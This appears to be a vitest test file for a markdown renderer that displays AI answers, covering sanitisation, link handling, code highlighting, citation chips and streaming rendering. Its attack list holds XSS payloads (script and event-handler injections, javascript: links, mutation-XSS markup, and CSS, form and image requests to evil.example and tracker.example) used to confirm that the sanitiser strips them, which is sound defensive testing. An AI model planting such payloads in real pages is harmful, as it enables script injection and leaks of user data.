import { beforeEach, expect, it } from 'vitest';
import { eventually } from '../testing/eventually.ts';
import { createAnswerRenderer, type RenderRequest } from './answer-renderer.ts';
import { createMarkdown } from './create-markdown.ts';
import { createHighlighter } from './highlighter.ts';
import { sanitise } from './sanitise.ts';

/** happy-dom's node iterator makes DOMPurify lose the first node that it is given; browsers' do not. */
const clean = (part: string) => sanitise(`<i></i>${part}`);
const noLanguages = () => createHighlighter(() => Promise.resolve(null));
let render: ReturnType<typeof createAnswerRenderer>;
const plain = { isGrowing: false, citations: new Map<number, string>(), copyLabel: 'Copy', variant: '' };

function html(text: string, part: Partial<RenderRequest> = {}): string {
  return render({ ...plain, text, ...part })
    .map((block) => block.html)
    .join('');
}

function dom(text: string, part: Partial<RenderRequest> = {}): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = html(text, part);
  return element;
}

beforeEach(() => {
  render = createAnswerRenderer(createMarkdown(noLanguages()), clean);
});

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](https://tracker.example/p.gif?secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<a href="javascript:alert(1)">x</a>',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '<https://a.example/"><script>alert(1)</script>>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<style>@import url(https://evil.example)</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<button data-citation="1" onclick="alert(1)">1</button>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[1]: javascript:alert(1)\n\n[x][1]',
];

it.each(attacks)('renders nothing that runs or fetches: %s', (attack) => {
  for (const isGrowing of [true, false]) {
    const root = dom(attack, { isGrowing });
    expect(root.querySelector('script, img, iframe, svg, style, form, math, object, embed, link')).toBeNull();
    for (const element of root.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src$/);
        expect(name === 'href' ? value : 'https:').toMatch(/^(https?|mailto):/);
      }
    }
  }
});

it('does not take a button that a model writes for a citation', () => {
  expect(dom('<button data-citation="1">1</button>').querySelector('button')).toBeNull();
});

it('opens links apart and tells their sites nothing', () => {
  const link = dom('See https://a.example/b.').querySelector('a');
  expect([link?.getAttribute('rel'), link?.target]).toEqual(['noopener noreferrer nofollow', '_blank']);
  expect(dom('node.js and index.ts').querySelector('a')).toBeNull();
});

it('shows an image as a link, and fetches nothing', () => {
  const root = dom('![a cat](https://a.example/cat.png)');
  expect(root.querySelector('a')?.textContent).toBe('a cat');
});

it('gives code a header with its language and a button, and wide tables a frame of their own', () => {
  const root = dom('```python\nprint(1)\n```\n\n| a | b |\n| - | -: |\n| 1 | 2 |');
  expect(root.querySelector('.code-header span')?.textContent).toBe('python');
  expect(root.querySelector('[data-copy-code]')?.textContent).toBe('Copy');
  expect(root.querySelector('.table-scroll td[data-align="right"]')?.textContent).toBe('2');
});

it('colours code once its language has arrived', async () => {
  const highlighter = createHighlighter();
  render = createAnswerRenderer(createMarkdown(highlighter), clean);
  const code = '```js\nconst a = 1;\n```';
  expect(html(code)).not.toContain('hljs-keyword');
  await eventually(() => expect(highlighter.version.value).toBe(1));
  expect(html(code, { variant: '1' })).toContain('hljs-keyword');
});

const citations = new Map([
  [1, 'Source 1: Page'],
  [2, 'Source 2: <b>'],
]);

it('makes chips of the marks whose source exists, and leaves other brackets alone', () => {
  const root = dom('One [1], two [1, 2] and 【2】; not [3], `[1]`, [1](https://a.example).', { citations });
  const chips = [...root.querySelectorAll<HTMLElement>('[data-citation]')];
  expect(chips.map((chip) => chip.dataset['citation'])).toEqual(['1', '1', '2', '2']);
  expect(chips.at(-1)?.getAttribute('aria-label')).toBe('Source 2: <b>');
  expect(root.textContent).toContain('[3]');
  expect(root.querySelector('code')?.textContent).toBe('[1]');
});

it('renders only the last block anew while an answer grows', () => {
  const first = 'First **paragraph**.\n\n';
  const one = render({ ...plain, isGrowing: true, text: `${first}Sec` });
  const two = render({ ...plain, isGrowing: true, text: `${first}Second.\n\n- item` });
  expect(two[0]).toBe(one[0]);
  expect(two.map((block) => block.key)).toEqual([0, 1, 2]);
});

it('comes to the same page by pieces as at once', () => {
  const text =
    '# T\r\n\r\nA **b** [1] `c`\nd\n\n1. x\n2. y\n   ```sh\n   ls\n   ```\n\n| a |\n| - |\n| 1 |\n\n> q\n\n1. a\n\n2. b\n\nHead\n---\n\n`x` **y** *z*\n\n- [ ] t\n- u\n\n```js\nlet a\n\nlet b\n```\n\nEnd.';
  for (let length = 1; length <= text.length; length += 1) {
    render({ ...plain, citations, isGrowing: true, text: text.slice(0, length) });
  }
  const grown = html(text, { citations, isGrowing: true });
  render = createAnswerRenderer(createMarkdown(noLanguages()), clean);
  expect(grown).toBe(html(text, { citations }));
});

it('starts over when the text is replaced by another', () => {
  html('One.\n\nTwo.\n\nThree', { isGrowing: true });
  expect(dom('Else.', { isGrowing: true }).textContent?.trim()).toBe('Else.');
});
